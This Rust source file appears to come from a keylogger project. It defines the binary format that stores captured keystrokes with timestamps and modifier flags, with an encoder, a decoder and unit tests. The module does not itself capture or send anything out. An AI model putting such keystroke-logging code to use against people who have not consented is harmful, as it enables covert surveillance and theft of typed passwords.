//! The packed binary log format.
//!
//! A log is a sequence of little-endian `u16` words. Each entry is laid out as:
//!
//! | word | contents |
//! |---|---|
//! | 0 | `hour << 8 \| minute` |
//! | 1 | `second << 8 \| 0xff` |
//! | 2.. | one `flags << 8 \| code` word per typed key |
//! | last | `KEY_ENTER` (`0x001c`) |
//!
//! `flags` is the [`ModifierState`] flag byte. Storing key codes rather than characters means
//! a log can be rendered with any [`Keymap`].

use crate::error::KeyloggerError;
use crate::interpreter::LogEntry;
use crate::key_code::KeyCode;
use crate::keymap::{Action, Keymap};
use crate::modifiers::ModifierState;
use crate::KeyloggerResult;
use chrono::{NaiveTime, Timelike};

/// The word that terminates an entry.
pub const ENTRY_END: u16 = KeyCode::KEY_ENTER.0;

const TIME_MARKER: u8 = 0xff;

/// Encode `entry` as it is appended to a binary log.
pub fn encode_entry(entry: &LogEntry) -> Vec<u8> {
    let ts = &entry.timestamp;
    let header = [
        ((ts.hour() as u16) << 8) | ts.minute() as u16,
        ((ts.second() as u16) << 8) | u16::from(TIME_MARKER),
    ];

    header
        .into_iter()
        .chain(entry.key_words())
        .chain([ENTRY_END])
        .flat_map(u16::to_le_bytes)
        .collect()
}

/// An entry read back from a binary log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodedEntry {
    /// The wall-clock time the line was submitted.
    pub time: NaiveTime,
    /// The keys of the line and the modifiers that were active for each.
    pub keys: Vec<(ModifierState, KeyCode)>,
}

impl DecodedEntry {
    /// Render the line using `keymap`. Keys that don't produce a character are skipped.
    pub fn text(&self, keymap: &Keymap) -> String {
        self.keys
            .iter()
            .filter_map(|(mods, code)| match keymap.resolve(*code, mods) {
                Action::Char(c) => Some(c),
                _ => None,
            })
            .collect()
    }
}

/// Iterates over the entries of a binary log.
///
/// A malformed header or a truncated final entry is yielded as
/// [`KeyloggerError::InvalidLogRecord`], after which iteration stops.
#[derive(Debug)]
pub struct LogReader<'a> {
    bytes: &'a [u8],
    offset: usize,
    done: bool,
}

impl<'a> LogReader<'a> {
    pub fn new(bytes: &'a [u8]) -> Self {
        Self {
            bytes,
            offset: 0,
            done: false,
        }
    }

    fn next_word(&mut self) -> Option<u16> {
        let bytes = self.bytes.get(self.offset..self.offset + 2)?;
        self.offset += 2;

        Some(u16::from_le_bytes([bytes[0], bytes[1]]))
    }

    fn invalid(&self, reason: &str) -> KeyloggerError {
        KeyloggerError::InvalidLogRecord {
            offset: self.offset,
            reason: reason.to_string(),
        }
    }

    fn read_entry(&mut self) -> KeyloggerResult<DecodedEntry> {
        let truncated = |reader: &Self| reader.invalid("truncated entry");

        let hm = self.next_word().ok_or_else(|| truncated(self))?;
        let sm = self.next_word().ok_or_else(|| truncated(self))?;

        let [hour, minute] = hm.to_be_bytes();
        let [second, marker] = sm.to_be_bytes();

        if marker != TIME_MARKER {
            return Err(self.invalid("missing timestamp marker"));
        }

        let time = NaiveTime::from_hms_opt(hour.into(), minute.into(), second.into())
            .ok_or_else(|| self.invalid("invalid timestamp"))?;

        let mut keys = Vec::new();

        loop {
            match self.next_word() {
                Some(ENTRY_END) => break,
                Some(word) => {
                    let [flags, code] = word.to_be_bytes();
                    keys.push((ModifierState::from_flags(flags), KeyCode(code.into())));
                }
                None => return Err(truncated(self)),
            }
        }

        Ok(DecodedEntry { time, keys })
    }
}

impl Iterator for LogReader<'_> {
    type Item = KeyloggerResult<DecodedEntry>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.done || self.offset >= self.bytes.len() {
            return None;
        }

        let entry = self.read_entry();
        self.done = entry.is_err();

        Some(entry)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keymap::Layout;
    use crate::line_buffer::TypedKey;
    use chrono::{Local, TimeZone};

    fn key(code: KeyCode, chr: char, shift: bool) -> TypedKey {
        TypedKey {
            code,
            chr,
            modifiers: ModifierState {
                shift,
                ..Default::default()
            },
        }
    }

    fn entry() -> LogEntry {
        LogEntry {
            timestamp: Local.with_ymd_and_hms(2024, 3, 5, 14, 7, 9).unwrap(),
            keys: vec![
                key(KeyCode::KEY_H, 'H', true),
                key(KeyCode::KEY_I, 'i', false),
                key(KeyCode::KEY_1, '!', true),
            ],
        }
    }

    #[test]
    fn layout_of_an_entry() {
        let bytes = encode_entry(&entry());

        assert_eq!(
            bytes,
            [
                0x07, 0x0e, // 14:07
                0xff, 0x09, // :09
                0x23, 0x02, // shift + H
                0x17, 0x00, // i
                0x02, 0x02, // shift + 1
                0x1c, 0x00, // end
            ]
        );
    }

    #[test]
    fn decodes_consecutive_entries() {
        let mut bytes = encode_entry(&entry());
        bytes.extend(encode_entry(&entry()));

        let keymap = Keymap::new(Layout::Us);
        let entries = LogReader::new(&bytes)
            .collect::<KeyloggerResult<Vec<_>>>()
            .unwrap();

        assert_eq!(entries.len(), 2);
        assert_eq!(entries[1].time, NaiveTime::from_hms_opt(14, 7, 9).unwrap());
        assert_eq!(entries[1].text(&keymap), "Hi!");
    }

    #[test]
    fn truncated_tail_is_reported_once() {
        let mut bytes = encode_entry(&entry());
        let full = bytes.len();
        bytes.extend(&encode_entry(&entry())[..5]);

        let mut reader = LogReader::new(&bytes);
        assert!(reader.next().unwrap().is_ok());
        match reader.next() {
            Some(Err(KeyloggerError::InvalidLogRecord { offset, .. })) => {
                assert!(offset > full)
            }
            other => panic!("expected a truncated entry, got {other:?}"),
        }
        assert!(reader.next().is_none());
    }

    #[test]
    fn rejects_bad_header() {
        // hour 25
        let bytes = [0x00, 0x19, 0xff, 0x00, 0x1c, 0x00];

        assert!(matches!(
            LogReader::new(&bytes).next(),
            Some(Err(KeyloggerError::InvalidLogRecord { .. }))
        ));
    }
}
